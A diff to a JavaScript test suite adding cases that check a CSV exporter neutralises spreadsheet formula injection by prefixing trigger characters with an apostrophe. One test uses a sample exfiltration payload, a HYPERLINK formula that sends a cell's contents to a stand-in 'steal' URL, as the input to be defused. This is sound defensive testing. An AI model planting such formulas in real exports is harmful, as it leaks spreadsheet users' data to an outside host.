@@ -36,6 +36,54 @@ describe('toCsv', () => {
   });
 });
 
+// OWASP "CSV Injection": a spreadsheet runs a cell that starts with one of these as a formula.
+const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+
+describe('toCsv: formula injection', () => {
+  it.each(TRIGGERS.map((c) => [JSON.stringify(c), c]))(
+    'puts an apostrophe before text that starts with %s',
+    (_, trigger) => {
+      const text = `${trigger}SUM(A1:A9)`;
+      expect(parseCsv(toCsv([[text]]))).toEqual([[`'${text}`]]);
+    },
+  );
+
+  it('quotes a neutralised field when it needs quoting, apostrophe inside the quotes', () => {
+    expect(toCsv([['=HYPERLINK("https://example.org","x")', '\rlate']])).toBe(
+      '"\'=HYPERLINK(""https://example.org"",""x"")","\'\rlate"\r\n',
+    );
+  });
+
+  it.each(TRIGGERS.map((c) => [JSON.stringify(c), c]))(
+    'leaves text with %s later than the first character unchanged',
+    (_, trigger) => {
+      const text = `a${trigger}b`;
+      expect(parseCsv(toCsv([[text]]))).toEqual([[text]]);
+    },
+  );
+
+  it('leaves ordinary text, an empty field and a leading apostrophe or space unchanged', () => {
+    expect(toCsv([['Explain AI', '', "'quoted", ' =1+1', '1-2']])).toBe("Explain AI,,'quoted, =1+1,1-2\r\n");
+  });
+
+  it('writes numbers as numbers, negative ones included: they are ours, not text', () => {
+    expect(toCsv([[2.5, -1, 0, -0.25]])).toBe('2.5,-1,0,-0.25\r\n');
+  });
+
+  it('refuses a number that is not finite rather than write NaN or -Infinity', () => {
+    expect(() => toCsv([[Number.NaN]])).toThrow(RangeError);
+    expect(() => toCsv([[-Infinity]])).toThrow(RangeError);
+  });
+
+  it('reads back, with an RFC 4180 reader, as the neutralised values', () => {
+    const row = ['=1+1', '+44 20', '-2', '@SUM(A1)', '\tx', '\r\nx', 'plain, "quoted"', 'a=b'];
+    expect(parseCsv(toCsv([row, ['next']]))).toEqual([
+      ["'=1+1", "'+44 20", "'-2", "'@SUM(A1)", "'\tx", "'\r\nx", 'plain, "quoted"', 'a=b'],
+      ['next'],
+    ]);
+  });
+});
+
 describe('frameworkCsv', () => {
   const csv = frameworkCsv(buildFramework(exportSample()));
 
@@ -75,6 +123,18 @@ describe('frameworkCsv', () => {
     )!;
     expect(procureLow[col('archetypes_needing_this_level')]).toBe('drivers users');
     expect(procureLow[col('archetypes_whose_level_this_is')]).toBe('users');
+  });
+
+  it('writes a title that starts a formula as text, with an apostrophe', () => {
+    const input = exportSample();
+    const title = '=HYPERLINK("https://example.org/steal?d="&A1,"Click here")';
+    input.competencies.find((c) => c.id === 'basics')!.title = title;
+    const rows = parseCsv(frameworkCsv(buildFramework(input)).slice(1)).slice(1);
+    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
+    const basics = rows.find((r) => r[col('competency_id')] === 'basics')!;
+    expect(basics[col('competency_title')]).toBe(`'${title}`);
+    // The numeric columns are still plain numbers.
+    expect([basics[col('level_rank')], basics[col('hours_to_this_level')]]).toEqual(['1', '1']);
   });
 
   it('reads back awkward titles exactly', () => {
